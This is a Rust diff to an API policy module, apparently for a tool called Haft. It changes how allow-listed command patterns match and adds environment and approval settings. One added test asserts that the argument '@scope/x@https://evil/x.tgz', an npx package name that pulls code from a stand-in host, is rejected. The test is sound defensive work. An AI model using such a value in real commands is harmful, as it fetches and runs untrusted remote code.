@@ -4,8 +4,9 @@ use std::net::{Ipv4Addr, SocketAddr};
 use std::path::PathBuf;
 use std::time::Duration;
 
+use super::choices::Approvals;
 use super::model::Setting;
-use super::pattern;
+use super::pattern::WordPattern;
 use super::secret::{Secret, ServerUrl};
 
 /// The HTTP API.
@@ -42,13 +43,18 @@ pub struct TlsFiles {
     pub key: PathBuf,
 }
 
-/// What the operator allows those who register tools over the API.
+/// What the operator allows to clients of the API.
 #[derive(Debug, Clone)]
 pub struct PolicyConfig {
     /// Command lines that may be run.
     pub allowed_commands: Setting<Vec<CommandPattern>>,
     /// Variables of Haft's environment that entries may name.
     pub allowed_variables: Setting<Vec<String>>,
+    /// Environment variables that entries may set for a server's process.
+    pub allowed_env: Setting<Vec<WordPattern>>,
+    /// Approver of calls of tools with `approval: ask`. Unset: people as soon as there are keys, the caller
+    /// before.
+    pub approvals: Option<Setting<Approvals>>,
 }
 
 /// Where traces go.
@@ -62,47 +68,47 @@ pub struct TelemetryConfig {
     pub service_name: Setting<String>,
 }
 
-/// A command line with gaps: `*` within a word stands for any characters, and a last word `...` for
-/// any further words.
+/// A command line with gaps in its words, see [`WordPattern`]; a last word `...` stands for any further
+/// words.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct CommandPattern {
-    words: Vec<String>,
+    words: Vec<WordPattern>,
     is_open: bool,
 }
 
 impl CommandPattern {
     /// Reads a pattern; nothing where it names no program, or a gap stands for the program itself.
     pub fn parse(text: &str) -> Option<Self> {
-        let mut words: Vec<String> = text.split_whitespace().map(ToOwned::to_owned).collect();
-        let is_open = words.last().is_some_and(|last| last == "...");
+        let mut words: Vec<&str> = text.split_whitespace().collect();
+        let is_open = words.last().is_some_and(|last| *last == "...");
         if is_open {
             words.pop();
         }
         let program = words.first()?;
         let names_a_program = program.chars().any(|it| it != '*' && it != '/');
+        let words = words.iter().map(|word| WordPattern::new(word)).collect();
         names_a_program.then_some(Self { words, is_open })
+    }
+
+    /// Whether a part of a word stands for anything.
+    pub fn has_anything(&self) -> bool {
+        self.words.iter().any(WordPattern::has_anything)
     }
 
     /// Whether a command line fits, word by word.
     pub fn allows(&self, command: &[&str]) -> bool {
         let is_as_long = command.len() == self.words.len();
         (is_as_long || (self.is_open && command.len() > self.words.len()))
-            && self.words.iter().zip(command).all(|(pattern, word)| fits(pattern, word))
+            && self.words.iter().zip(command).all(|(pattern, word)| pattern.fits(word))
     }
 }
 
 impl std::fmt::Display for CommandPattern {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        f.write_str(&self.words.join(" "))?;
-        if self.is_open { f.write_str(" ...") } else { Ok(()) }
+        let words = self.words.iter().map(ToString::to_string);
+        let words: Vec<String> = words.chain(self.is_open.then(|| "...".to_owned())).collect();
+        f.write_str(&words.join(" "))
     }
-}
-
-/// Whether `word` fits a pattern with `*`.
-fn fits(pattern: &str, word: &str) -> bool {
-    // A gap stands for a name, and not for a way to somewhere else.
-    let leads_elsewhere = pattern.contains('*') && word.split('/').any(|step| step == "..");
-    !leads_elsewhere && pattern::fits(pattern, word)
 }
 
 #[cfg(test)]
@@ -116,6 +122,7 @@ mod tests {
     #[test]
     fn a_pattern_fits_word_by_word() {
         assert!(allows("npx -y @scope/*", &["npx", "-y", "@scope/server"]));
+        assert!(!allows("npx -y @scope/*", &["npx", "-y", "@scope/x@https://evil/x.tgz"]));
         assert!(!allows("npx -y @scope/*", &["npx", "-y", "@other/server"]));
         assert!(!allows("npx -y @scope/*", &["npx", "-y", "@scope/server", "more"]));
         assert!(!allows("npx -y @scope/*", &["npx", "-y"]));
@@ -136,7 +143,7 @@ mod tests {
 
     #[test]
     fn a_pattern_names_a_program() {
-        for nothing in ["", "  ", "...", "*", "* -y", "/*"] {
+        for nothing in ["", "  ", "...", "*", "**", "* -y", "/*"] {
             assert_eq!(CommandPattern::parse(nothing), None, "{nothing}");
         }
     }
